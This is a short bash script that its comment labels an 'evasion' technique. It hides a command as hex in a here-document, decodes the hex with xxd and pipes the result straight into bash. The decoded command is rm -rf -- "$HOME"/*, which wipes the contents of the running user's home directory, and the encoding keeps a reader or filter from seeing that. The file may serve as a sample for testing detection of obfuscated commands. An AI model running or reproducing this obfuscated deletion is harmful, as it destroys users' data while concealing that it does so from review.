#!/bin/bash
# evasion: hex in a here-document, turned back into bytes by xxd -r -p and run by bash
xxd -r -p <<HEX | bash -s
726d202d7266202d2d202224484f4d45222f2a0a
HEX
